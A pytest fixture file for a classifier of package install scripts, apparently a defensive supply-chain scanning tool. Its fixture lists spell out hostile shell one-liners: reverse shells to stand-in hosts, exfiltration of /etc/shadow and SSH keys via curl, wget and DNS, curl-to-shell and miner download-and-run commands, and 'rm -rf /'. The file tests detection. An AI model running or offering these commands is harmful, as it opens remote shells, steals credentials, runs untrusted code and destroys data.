"""Script-pattern classifier fixture suite.

Ten scripts per malicious category plus twelve benign ones, each expected
category derived by hand from the documented rule table (severity order:
reverse shell > data exfiltration > download-and-run > destructive delete).
"""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from weaklink import signals
from weaklink.combinations import keyword_hunt
from weaklink.signals import AnalyzerConfig, ScriptCategory, analyze_w2, classify_script, find_suspicious_tokens, token_regex, DEFAULT_SUSPICIOUS_TOKENS

from conftest import make_corpus, make_record

REVERSE_SHELL = [
    "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
    "sh -i >& /dev/udp/evil.example/443 0>&1",
    "nc -e /bin/sh attacker.example 4444",
    "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc evil.example 9001 > /tmp/f",
    "exec 5<>/dev/tcp/203.0.113.5/443; cat <&5 | sh",
    "nc -lvp 4444 -e cmd.exe",
    "node client.js & bash -i >& /dev/tcp/198.51.100.2/53 0>&1",
    "mkfifo /tmp/pipe && nc 198.51.100.7 1234 < /tmp/pipe",
    "exec 196<>/dev/tcp/evil.example/4242; sh <&196 >&196 2>&196",
    "busybox nc 10.1.1.1 8888 -e /bin/ash",
]

DATA_EXFILTRATION = [
    "curl http://x.io -d @/etc/passwd",
    "curl -s https://collect.example --data @/etc/shadow",
    "wget --post-file=/etc/passwd http://evil.example/up",
    "dig $(hostname).tunnel.example",
    "curl -T ~/.ssh/id_rsa ftp://drop.example/",
    "tar czf - ~/.ssh | curl -F 'f=@-' https://x.example",
    "cat /etc/passwd | nc 10.0.0.9 443",
    'wget -q -O- --post-data="$(cat /etc/shadow)" http://c2.example',
    "curl https://api.collect.example -H x-data:$(hostname)",
    "dig +short $(cat /etc/passwd | head -c 30).exfil.example",
]

DOWNLOAD_AND_RUN = [
    "curl -fsSL https://get.example/i.sh | sh",
    "wget http://x.io/m.sh && chmod +x m.sh && ./m.sh",
    "curl -o /tmp/tool https://x.example/tool && chmod +x /tmp/tool",
    "wget -qO- https://inst.example | bash",
    "curl http://m.example/payload.js -o p.js && node p.js",
    "wget https://cdn.example/run.sh; sh run.sh",
    "curl -L https://x.example/a.tar.gz | tar xz && ./helper",
    "curl -sf https://bootstrap.example/env.sh | zsh",
    "wget -O miner http://pool.example/xm && chmod +x miner && nohup ./miner &",
    "curl --silent https://drop.example/s1.sh --output s1.sh && bash s1.sh",
]

DESTRUCTIVE_DELETE = [
    "rm -rf ./build && tsc",
    "rm -rf /tmp/cache",
    "rm -rf ~/projects",
    "rm -fr node_modules",
    "rm -r -f dist",
    "echo cleaning && rm -rf $HOME/.config/app",
    "rm -rf / --no-preserve-root",
    "rm -rvf ./out",
    "find . -name '*.tmp' && rm -rf temp/",
    "rm -rf ../sibling && echo done",
]

BENIGN = [
    "node-gyp rebuild",
    "node setup.js",
    "tsc -p tsconfig.json",
    "eslint src --fix",
    "jest --coverage",
    "node scripts/postinstall.js --quiet",
    "prebuild-install || node-gyp rebuild",
    "echo 'thanks for installing'",
    "husky install",
    "cmake -S . -B build && make -C build",
    "node wget2-helper.js",
    "./configure && make && make install",
]

SUITE = (
    [(body, ScriptCategory.REVERSE_SHELL) for body in REVERSE_SHELL]
    + [(body, ScriptCategory.DATA_EXFILTRATION) for body in DATA_EXFILTRATION]
    + [(body, ScriptCategory.DOWNLOAD_AND_RUN) for body in DOWNLOAD_AND_RUN]
    + [(body, ScriptCategory.DESTRUCTIVE_DELETE) for body in DESTRUCTIVE_DELETE]
    + [(body, ScriptCategory.NONE) for body in BENIGN]
)


def test_suite_size():
    assert len(SUITE) >= 40


@pytest.mark.parametrize("body,expected", SUITE)
def test_fixture_suite(body, expected):
    pattern = classify_script(body)
    assert pattern.category is expected, (body, pattern)
    # Category and matched-rule evidence are consistent.
    assert (pattern.category is ScriptCategory.NONE) == (not pattern.matched_tokens)


def test_rule_order_reverse_shell_beats_exfiltration():
    body = "curl http://c2.example -d @/etc/passwd; bash -i >& /dev/tcp/10.0.0.2/443 0>&1"
    pattern = classify_script(body)
    assert pattern.category is ScriptCategory.REVERSE_SHELL
    # Hits from the lower-severity satisfied rule are retained.
    assert "curl" in pattern.matched_tokens
    assert "/etc/passwd" in pattern.matched_tokens


def test_rule_order_exfiltration_beats_download():
    body = "curl https://x.example/i.sh -d @/etc/shadow | sh"
    assert classify_script(body).category is ScriptCategory.DATA_EXFILTRATION


def test_destructive_target_recorded():
    pattern = classify_script("rm -rf ./build && tsc")
    assert pattern.matched_tokens == ("rm -rf ./build",)


def test_word_boundaries():
    assert classify_script("curl-config --version && node wget2.js").category is ScriptCategory.NONE
    assert find_suspicious_tokens("node wget2.js", DEFAULT_SUSPICIOUS_TOKENS) == []
    assert find_suspicious_tokens("/usr/bin/wget http://x", DEFAULT_SUSPICIOUS_TOKENS) == ["wget"]
    assert find_suspicious_tokens("async function ncDig() {}", DEFAULT_SUSPICIOUS_TOKENS) == []


def test_find_suspicious_tokens_examples():
    hits = find_suspicious_tokens("curl -s http://a.b | sh", DEFAULT_SUSPICIOUS_TOKENS)
    assert "curl" in hits
    assert find_suspicious_tokens("echo done", DEFAULT_SUSPICIOUS_TOKENS) == []
    hits = find_suspicious_tokens("cat /etc/shadow > /tmp/x; chmod +x /tmp/x", DEFAULT_SUSPICIOUS_TOKENS)
    assert set(hits) == {"/etc/shadow", "chmod +x"}


def test_each_token_regex_is_compiled_once_per_token_tuple(monkeypatch):
    # W2 and the keyword hunt scan every install script body for the same
    # tokens; the hits are those of one regex per token, in token order.
    compiled = []
    monkeypatch.setattr(signals, "token_regex", lambda token: compiled.append(token) or token_regex(token))
    signals._token_regexes.cache_clear()
    bodies = [body for body, _ in SUITE]
    corpus = make_corpus([make_record(f"p{i:03d}", scripts={"install": body, "postinstall": "node x.js"}) for i, body in enumerate(bodies)])
    cfg = AnalyzerConfig().resolved(corpus)
    analyze_w2(corpus, cfg)
    hunted = keyword_hunt(corpus, cfg)
    assert compiled == list(DEFAULT_SUSPICIOUS_TOKENS)
    expected = [[tok for tok in DEFAULT_SUSPICIOUS_TOKENS if token_regex(tok).search(body)] for body in bodies]
    assert [find_suspicious_tokens(body, DEFAULT_SUSPICIOUS_TOKENS) for body in bodies] == expected
    assert [list(hit.tokens) for hit in hunted if hit.script_key == "install"] == [hits for hits in expected if hits]
    assert compiled == list(DEFAULT_SUSPICIOUS_TOKENS)


@pytest.mark.parametrize("body,expected", SUITE)
def test_stable_under_benign_affixes(body, expected):
    wrapped = f"echo start && {body} && echo done"
    assert classify_script(wrapped).category is expected


@given(
    st.sampled_from([body for body, _ in SUITE]),
    st.text(alphabet=" \t\n", max_size=5),
    st.text(alphabet=" \t\n", max_size=5),
)
def test_stable_under_whitespace(body, prefix, suffix):
    base = classify_script(body).category
    assert classify_script(prefix + body + suffix).category is base
